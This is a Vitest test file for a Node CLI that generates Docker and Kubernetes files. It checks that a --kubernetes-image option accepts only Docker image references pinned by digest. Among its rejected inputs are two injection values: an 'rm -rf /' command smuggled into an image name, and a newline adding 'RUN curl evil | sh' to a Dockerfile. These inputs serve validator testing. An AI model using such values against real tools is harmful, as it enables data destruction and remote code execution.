// --kubernetes-image: the image k8s/ deploys, pinned by digest. Docker's reference grammar, a tag
// without a digest refused in one line (exit 2, nothing written), the pin in kustomization.yaml's
// images:, in --json, in the summary and in the printed command; asked for in an interactive run.
import { readdir } from 'node:fs/promises';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { parseImageReference } from '../../src/core/image-reference.js';
import { pinnedImage } from '../../src/core/validate.js';
import { copyFixture, readText, runInProcess } from '../support/cli-harness.js';
import { shellWords } from '../support/shell-words.js';

const DIGEST = `sha256:${'0123456789abcdef'.repeat(4)}`;
const PINNED = `registry.example.com:5000/team/express-cjs@${DIGEST}`;

const cleanups: (() => Promise<void>)[] = [];
afterAll(() => Promise.all(cleanups.map((c) => c())));
async function fixture(name = 'express-cjs'): Promise<string> {
  const copy = await copyFixture(name);
  cleanups.push(copy.cleanup);
  return copy.dir;
}

describe('image references (Docker reference grammar)', () => {
  it.each([
    ['app', { name: 'app' }],
    ['app:1.2.3', { name: 'app', tag: '1.2.3' }],
    [`app@${DIGEST}`, { name: 'app', digest: DIGEST }],
    [`ghcr.io/org/app:v1_2-rc.3@${DIGEST}`, { name: 'ghcr.io/org/app', tag: 'v1_2-rc.3', digest: DIGEST }],
    [`localhost:5000/a/b/c@${DIGEST}`, { name: 'localhost:5000/a/b/c', digest: DIGEST }],
    [`127.0.0.1:42161/csnd-k8s/express-cjs@${DIGEST}`, { name: '127.0.0.1:42161/csnd-k8s/express-cjs', digest: DIGEST }],
    [`[::1]:5000/app@${DIGEST}`, { name: '[::1]:5000/app', digest: DIGEST }],
    [`my_app__x.y--z@${DIGEST}`, { name: 'my_app__x.y--z', digest: DIGEST }],
  ])('%s', (text, parts) => {
    expect(parseImageReference(text)).toEqual(parts);
  });

  it.each([
    '',
    'App',
    'app:',
    'app@',
    'app@sha256:abc',
    `app@sha512:${'a'.repeat(128)}`,
    `app@SHA256:${'A'.repeat(64)}`,
    `-app@${DIGEST}`,
    `app-@${DIGEST}`,
    `a//b@${DIGEST}`,
    `app:-tag@${DIGEST}`,
    `app:${'t'.repeat(129)}@${DIGEST}`,
    `${'a'.repeat(256)}@${DIGEST}`,
    `app @${DIGEST}`,
    `app\n@${DIGEST}`,
    `app@${DIGEST}\n`,
    `app@${DIGEST}@${DIGEST}`,
    `https://registry.example.com/app@${DIGEST}`,
    `app"; rm -rf /@${DIGEST}`,
  ])('not a reference: %j', (text) => {
    expect(parseImageReference(text)).toBeUndefined();
  });

  it('--kubernetes-image needs the digest: a tag alone is refused with a line that says why', () => {
    expect(pinnedImage(PINNED, '--kubernetes-image')).toBe(PINNED);
    expect(pinnedImage(`app:1.2.3@${DIGEST}`, '--kubernetes-image')).toBe(`app:1.2.3@${DIGEST}`);
    expect(() => pinnedImage('registry.example.com/app:1.2.3', '--kubernetes-image')).toThrow(
      '--kubernetes-image must be pinned by digest (a tag can move): <name>[:tag]@sha256:<64 hex digits>, e.g. the digest docker push prints; got "registry.example.com/app:1.2.3"',
    );
    expect(() => pinnedImage('a\nb', '--kubernetes-image')).toThrow('--kubernetes-image must be an image reference such as registry.example.com/app@sha256:<64 hex digits>, got "a\\nb"');
  });
});

describe('generate --kubernetes-image', () => {
  it('pins kustomization.yaml (name -> newName + digest), implies --kubernetes, reports it in --json and passes check --fail-on info', async () => {
    const dir = await fixture();
    const result = await runInProcess(['--yes', '--json', '--kubernetes-image', PINNED], { cwd: dir });
    expect(result.code, result.stderr).toBe(0);
    const report = JSON.parse(result.stdout) as { files: { path: string }[]; kubernetes: { image: string | null } };
    expect(report.files.map((f) => f.path)).toEqual(expect.arrayContaining(['k8s/deployment.yaml', 'k8s/service.yaml', 'k8s/kustomization.yaml']));
    expect(report.kubernetes).toEqual({ image: PINNED });
    const kustomization = await readText(dir, 'k8s/kustomization.yaml');
    expect((parse(kustomization) as { images: unknown }).images).toEqual([{ name: 'express-cjs', newName: 'registry.example.com:5000/team/express-cjs', digest: DIGEST }]);
    expect(kustomization).toMatch(/^# .*pinned by digest \(--kubernetes-image\)/m);
    // The Deployment names the image only: kustomization.yaml is the one place it is set.
    expect((parse(await readText(dir, 'k8s/deployment.yaml')) as { spec: { template: { spec: { containers: { image: string }[] } } } }).spec.template.spec.containers[0]!.image).toBe('express-cjs');
    const readme = await readText(dir, 'README.Docker.md');
    expect(readme).toContain(`\`k8s/kustomization.yaml\`: \`${PINNED}\``);
    expect(readme).not.toContain('placeholder');
    expect(await readText(dir, 'Dockerfile')).toMatch(new RegExp(`^# Regenerate: .* --kubernetes --kubernetes-image ${PINNED.replace(/[.]/g, '\\.')}$`, 'm'));
    // Deploy-time files stay out of the build context: pinning the pushed image must not change the next build.
    expect(await readText(dir, '.dockerignore')).toContain('\n# Deployment files: pinning the pushed image in them must not change the image\n/k8s\n/README.Docker.md\n');
    const checked = await runInProcess(['check', '--json', '--fail-on', 'info'], { cwd: dir });
    expect(checked.code, checked.stderr).toBe(0);
    expect((JSON.parse(checked.stdout) as { findings: unknown[] }).findings).toEqual([]);
  });

  it('a tag keeps its name next to the digest (kustomize writes name:tag@digest)', async () => {
    const dir = await fixture();
    const result = await runInProcess(['--yes', '--kubernetes-image', `ghcr.io/org/app:1.4.0@${DIGEST}`], { cwd: dir });
    expect(result.code, result.stderr).toBe(0);
    expect((parse(await readText(dir, 'k8s/kustomization.yaml')) as { images: unknown }).images).toEqual([{ name: 'express-cjs', newName: 'ghcr.io/org/app', newTag: '1.4.0', digest: DIGEST }]);
  });

  it('without it: the placeholder tag, --json says image null, README.Docker.md explains the info finding and how to pin', async () => {
    const dir = await fixture();
    const result = await runInProcess(['--yes', '--json', '--kubernetes'], { cwd: dir });
    expect(result.code, result.stderr).toBe(0);
    expect((JSON.parse(result.stdout) as { kubernetes: unknown }).kubernetes).toEqual({ image: null });
    const readme = await readText(dir, 'README.Docker.md');
    expect(readme).toContain('names the placeholder\n`express-cjs:1.0.0`');
    expect(readme).toContain('`k8s-image-digest` (info)');
    expect(readme).toContain('--kubernetes-image <registry>/express-cjs@sha256:<digest>');
    const plain = await runInProcess(['--yes', '--json'], { cwd: await fixture() });
    expect(JSON.parse(plain.stdout)).not.toHaveProperty('kubernetes');
  });

  it.each([
    [['--kubernetes-image', 'registry.example.com/app:1.2.3'], /^--kubernetes-image must be pinned by digest \(a tag can move\)/],
    [['--kubernetes-image', 'registry.example.com/app'], /^--kubernetes-image must be pinned by digest/],
    [['--kubernetes-image', `Registry.example.com/App@${DIGEST}`], /^--kubernetes-image must be an image reference such as/],
    [['--kubernetes-image', `app@${DIGEST}\nRUN curl evil | sh`], /^--kubernetes-image must be an image reference such as registry\.example\.com\/app@sha256:<64 hex digits>, got "app@sha256:[0-9a-f]{64}\\n\.\.\."$/],
    [['--no-kubernetes', '--kubernetes-image', PINNED], /^--kubernetes-image sets the image of k8s\/: drop --no-kubernetes$/],
  ])('%j: exit 2, one line, nothing written', async (args, message) => {
    const dir = await fixture();
    const listing = (await readdir(dir, { recursive: true })).sort();
    const result = await runInProcess(['--yes', ...args], { cwd: dir });
    expect(result.code).toBe(2);
    const lines = result.stderr.trimEnd().split('\n');
    expect(lines, result.stderr).toHaveLength(1);
    expect(lines[0]!.replace(/^create-secure-node-docker: /, '')).toMatch(message);
    expect((await readdir(dir, { recursive: true })).sort()).toEqual(listing);
  });
});

describe('interactive --kubernetes', () => {
  it('asks for the image after "yes" to Kubernetes; the printed command carries --kubernetes-image and reproduces the files', async () => {
    const dir = await fixture();
    const first = await runInProcess([], { cwd: dir, isTTY: true, answers: { kubernetes: true, kubernetesImage: PINNED } });
    expect(first.code, first.stderr).toBe(0);
    const names = first.questions.map((q) => q.name);
    expect(names.indexOf('kubernetesImage')).toBe(names.indexOf('kubernetes') + 1);
    expect(first.stderr).toContain(`image ${PINNED}`);
    const command = /Same result without prompts:\n {2}(.*)\n/.exec(first.stderr)?.[1] ?? '';
    const argv = shellWords(command).slice(2);
    expect(argv).toEqual(expect.arrayContaining(['--kubernetes', '--kubernetes-image', PINNED]));
    const scriptedDir = await fixture();
    const second = await runInProcess(argv, { cwd: scriptedDir });
    expect(second.code, second.stderr).toBe(0);
    for (const file of ['Dockerfile', 'README.Docker.md', 'k8s/deployment.yaml', 'k8s/kustomization.yaml']) {
      expect(await readText(scriptedDir, file), file).toBe(await readText(dir, file));
    }
  });

  it('an empty answer keeps the placeholder; --kubernetes-image asks neither question', async () => {
    const dir = await fixture();
    const placeholder = await runInProcess([], { cwd: dir, isTTY: true, answers: { kubernetes: true } });
    expect(placeholder.code, placeholder.stderr).toBe(0);
    expect((parse(await readText(dir, 'k8s/kustomization.yaml')) as { images: { newTag?: string }[] }).images[0]!.newTag).toBe('1.0.0');
    const given = await runInProcess(['--kubernetes-image', PINNED], { cwd: await fixture(), isTTY: true });
    expect(given.code, given.stderr).toBe(0);
    expect(given.questions.map((q) => q.name)).not.toContain('kubernetes');
    expect(given.questions.map((q) => q.name)).not.toContain('kubernetesImage');
  });

  it('the image question refuses a tag alone with the same rule', async () => {
    const dir = await fixture();
    const result = await runInProcess([], { cwd: dir, isTTY: true, answers: { kubernetes: true } });
    const question = result.questions.find((q) => q.name === 'kubernetesImage');
    expect(question?.type).toBe('input');
    const validate = question?.type === 'input' ? question.validate : undefined;
    expect(validate?.('')).toBe(true);
    expect(validate?.(PINNED)).toBe(true);
    expect(validate?.('registry.example.com/app:1.2.3')).toMatch(/^image must be pinned by digest/);
  });
});
